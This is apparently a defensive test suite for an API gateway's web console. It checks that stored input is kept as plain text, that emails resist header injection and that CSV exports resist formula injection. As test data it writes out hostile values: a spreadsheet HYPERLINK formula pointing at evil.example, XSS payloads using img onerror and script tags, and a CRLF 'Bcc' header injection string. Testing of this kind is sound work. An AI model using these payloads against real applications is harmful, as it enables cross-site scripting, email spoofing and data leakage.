import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import type { Browser as Chromium, BrowserContext } from 'playwright-core'
import { type Browser, openBrowser } from '../accounts/browser.ts'
import { type Mailbox, openMailbox } from '../accounts/mailbox.ts'
import { eventually } from '../console-api/stage.ts'
import { must, openGateway, PASSWORD, signUp, STAGE_MS } from '../accounts/stage.ts'
import { openBrowser as openChromium } from '../console/browser.ts'
import { buildConsole, pagePaths, signInAsOperator } from '../console/stand.ts'
import type { Gateway } from '../harness/gateway.ts'
import { type Operation, operationsOf } from './description.ts'
import { ADMIN_FORMS, MEMBERS_FORMS } from './forms.ts'
import { HOSTILE, MARK } from './hostile.ts'
import { lookAt } from './look.ts'
import { storeIn } from './store.ts'
import { askOnce, CONFIG, inOrganisation, openWorld, type World } from './world.ts'

/** Texts are compared by what they are in, not by what they do there: see `look.ts` and `store.ts`. */
const CUSTOMER_PAGES = /^\/console/
const PUBLIC_PAGES = /^\/(?!console|admin)/
/** Reading the configuration anew takes longer the more there is of it: these get some of the texts. */
const CONFIGURATION = /\/admin\/(?:providers|channels|groups|aliases|retired)/
const SOME = 3
/** Model names hold no blanks. */
const MODELS = [
  `=HYPERLINK("https://evil.example/${MARK}","${MARK}")`,
  `<img/src=x/onerror=window.ran=21>${MARK}`,
  `@${MARK}`,
  `-1+${MARK}`,
]
const AGENT = `${MARK}<script>window.ran=22</script>`

let mailbox: Mailbox
let gateway: Gateway
let world: World
let operations: readonly Operation[]
const taken: string[] = []
const broken: string[] = []

/** Whoever makes a call of an administrator, of a member, or of anybody; `undefined`: nothing of it is kept. */
const whoFor = (call: string): Browser | undefined => {
  if (call in ADMIN_FORMS) return world.operator
  return call in MEMBERS_FORMS || call === 'POST /api/auth/sign-up/email' ? world.members.owner : undefined
}

const storeAll = async (): Promise<void> => {
  for (const operation of operations.filter(({ texts, changes }) => changes && texts.length > 0)) {
    const by = whoFor(operation.call)
    if (!by) continue
    const count = CONFIGURATION.test(operation.path) ? SOME : HOSTILE.length
    const stored = await storeIn(operation, world.named, count, (method, path, body) =>
      by.send(method, path, body, inOrganisation(world)),
    )
    taken.push(...stored.taken)
    broken.push(...stored.broken)
  }
}

/** What clients write: names of models, prompts, and what they call themselves. */
const askAll = async (): Promise<string> => {
  const { organisationId } = world.named
  for (const id of MODELS) must(201, await world.operator.post('/api/admin/aliases', { id, model: 'demo' }))
  const { key } = await gateway.createKey({ user_id: organisationId, project_id: `=1+${MARK}` })
  for (const model of MODELS) await askOnce(gateway, key, 'Hello', model)
  await openBrowser(gateway.url).post(
    '/api/auth/sign-in/email',
    { email: 'owner@example.com', password: PASSWORD },
    { 'user-agent': AGENT },
  )
  return askOnce(gateway, key, HOSTILE.map(([, text]) => text).join('\n'), 'demo', AGENT)
}

beforeAll(async () => {
  mailbox = await openMailbox()
  gateway = await openGateway('sqlite', { sign_up: 'open' }, mailbox, CONFIG)
  world = await openWorld(gateway, mailbox)
  operations = await operationsOf(gateway.url)
  await storeAll()
  world = { ...world, named: { ...world.named, requestId: await askAll() } }
  await world.operator.send('DELETE', '/api/session/impersonation')
}, 2 * STAGE_MS)
afterAll(async () => {
  await gateway.stop()
  await mailbox.stop()
})

describe('hostile text', () => {
  test('is taken where text is taken, refused elsewhere, and breaks nothing', () => {
    expect(broken).toEqual([])
    for (const field of FIELDS) expect(taken).toContain(field)
    expect(taken.filter((field) => NEVER_TEXT.test(field.split(' ').at(-1) ?? ''))).toEqual([])
    expect(gateway.output()).not.toContain('"level":"error"')
  })

  test('with a line end or a null is taken nowhere', async () => {
    for (const text of [
      `${MARK}\r\nBcc: eve@evil.example`,
      `${MARK}\nX: y`,
      `${MARK}\u0000`,
      `${MARK}\u001b[31m`,
      '\ud800',
    ])
      for (const [method, path, body] of [
        ['POST', '/api/organisations', { name: text }],
        ['POST', '/api/me/keys', { name: text }],
        ['POST', '/api/auth/update-user', { name: text }],
        ['POST', '/api/auth/sign-up/email', { name: text, email: 'eve@example.com', password: PASSWORD }],
      ] as const)
        expect([path, (await world.members.owner.send(method, path, body)).status]).toEqual([path, 400])
  })

  test(
    'in messages is text of one line, and never another address or head',
    async () => {
      const names = HOSTILE.map(([, text]) => text.slice(0, 100))
      for (const [index, name] of names.entries()) {
        const email = `named${index}@example.com`
        const owner = await signUp(gateway, email, { mailbox, name })
        const id = String(must(201, await owner.post('/api/organisations', { name }))['id'])
        const to = `friend${index}@example.com`
        must(201, await owner.post(`/api/organisations/${id}/invitations`, { email: to, role: 'viewer' }))
        const letter = await mailbox.next(to)
        expect([letter.to, letter.from]).toEqual([to, 'tollgate@example.com'])
        expect(letter.subject).toStartWith('You are invited to ')
        // The one link is ours; what looks like one in a name is broken.
        expect(letter.text.match(/https?:\/\/\S+/g)).toEqual([
          expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/invite\/[\w-]+$/),
        ])
        expect(letter.text + letter.subject).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
      }
      expect(mailbox.letters.filter(({ to }) => to.includes('evil'))).toEqual([])
    },
    STAGE_MS,
  )
})

describe('a file for spreadsheets', () => {
  test.each([
    ['the requests of an organisation', '/api/me/requests.csv', 'owner'],
    ['its usage', '/api/me/usage.csv?group_by=model,project_id,key_id', 'owner'],
    ['all requests', '/api/admin/requests.csv', 'operator'],
  ] as const)('has no formula in it: %s', async (_, path, who) => {
    const by = who === 'operator' ? world.operator : world.members.owner
    const headers = {
      cookie: [...by.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
      ...inOrganisation(world),
    }
    const read = async () => cellsOf(await (await fetch(gateway.url + path, { headers })).text())
    // Usage is counted a little later.
    const cells = await eventually(read, (found) => found.some((cell) => cell.includes(MARK)))
    expect(cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell))).toEqual([])
  })
})

describe('a page that shows hostile text', () => {
  let chromium: Chromium
  let operator: BrowserContext
  let customer: BrowserContext
  let stranger: BrowserContext
  beforeAll(async () => {
    buildConsole()
    chromium = await openChromium()
    operator = await chromium.newContext()
    await signInAsOperator(operator, gateway)
    customer = await chromium.newContext({ userAgent: AGENT, extraHTTPHeaders: {} })
    const entered = await customer.request.post(`${gateway.url}/api/auth/sign-in/email`, {
      data: { email: 'owner@example.com', password: PASSWORD },
      headers: { 'x-tollgate-console': '1', origin: gateway.url },
    })
    expect(entered.status()).toBe(200)
    stranger = await chromium.newContext()
  }, STAGE_MS)
  afterAll(() => chromium.close())

  /** With what there is in place of what a path names. */
  const pathOf = (template: string): string => {
    const { requestId, userId, invitationToken } = world.named
    if (template === '/console/logs/unknown') return `/console/logs/${requestId}`
    if (template === '/admin/users/unknown') return `/admin/users/${userId}`
    return template === '/invite/unknown' ? `/invite/${invitationToken}` : template
  }
  const rows = (pattern: RegExp) =>
    pagePaths()
      .filter((path) => pattern.test(path))
      .map((path) => [path] as const)

  test.each(rows(/^\/admin/))(
    'takes it for text, for the operator: %s',
    async (path) => {
      const { wrong, shows } = await lookAt(operator, gateway.url, pathOf(path))
      expect(wrong).toEqual([])
      if (SHOWN.includes(path)) expect([path, shows]).toEqual([path, true])
    },
    STAGE_MS,
  )

  test.each(rows(CUSTOMER_PAGES))(
    'takes it for text, for a member: %s',
    async (path) => {
      const { wrong, shows } = await lookAt(customer, gateway.url, pathOf(path))
      expect(wrong).toEqual([])
      if (SHOWN.includes(path)) expect([path, shows]).toEqual([path, true])
    },
    STAGE_MS,
  )

  test.each(rows(PUBLIC_PAGES))(
    'takes it for text, for anybody: %s',
    async (path) => {
      const { wrong, shows } = await lookAt(stranger, gateway.url, pathOf(path))
      expect(wrong).toEqual([])
      if (SHOWN.includes(path)) expect([path, shows]).toEqual([path, true])
    },
    STAGE_MS,
  )
})

/** Fields that are text, and take any: the test above would prove nothing were they refused. */
const FIELDS: readonly string[] = [
  'POST /api/auth/sign-up/email name',
  'POST /api/auth/update-user name',
  'POST /api/organisations name',
  'PATCH /api/organisations/{id} name',
  'PATCH /api/admin/people/{id} reason',
  'POST /api/admin/users/{id}/impersonate reason',
  'POST /api/admin/users/{id}/credits reason',
  'POST /api/admin/users/{id}/credits idempotency_key',
  'POST /api/admin/redemption-codes note',
  'POST /api/admin/projects name',
  'POST /api/admin/keys name',
  'POST /api/admin/keys project_id',
  'POST /api/admin/keys models.0',
  'POST /api/admin/keys labels.0',
  'POST /api/admin/reconciliations provider',
  'PUT /api/admin/models/{model}/price reason',
  'POST /api/admin/prices reason',
  'POST /api/admin/providers/{id}/pause reason',
  'POST /api/admin/channels models.0',
  'POST /api/admin/groups rules.0.name',
  'POST /api/admin/groups rules.0.do.refuse',
  'POST /api/admin/retired successor',
  'POST /api/admin/alerts name',
  'POST /api/me/keys name',
  'POST /api/me/projects name',
]

/** Amounts, ids, addresses and times. */
const NEVER_TEXT = /usd|email|^id$|expires_at|ip_allow|url|multiplier|discount/

/** Pages on which some of it is to be read. */
const SHOWN: readonly string[] = [
  '/admin/users/unknown',
  '/admin/codes',
  '/admin/rules',
  '/admin/alerts',
  '/admin/audit',
  '/console',
  '/console/keys',
  '/console/logs',
  '/console/logs/unknown',
  '/console/billing',
  '/console/settings',
  '/invite/unknown',
]

/** The cells of a file as RFC 4180 has it. */
const cellsOf = (text: string): readonly string[] =>
  [...text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ({ 1: quoted, 2: plain }) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
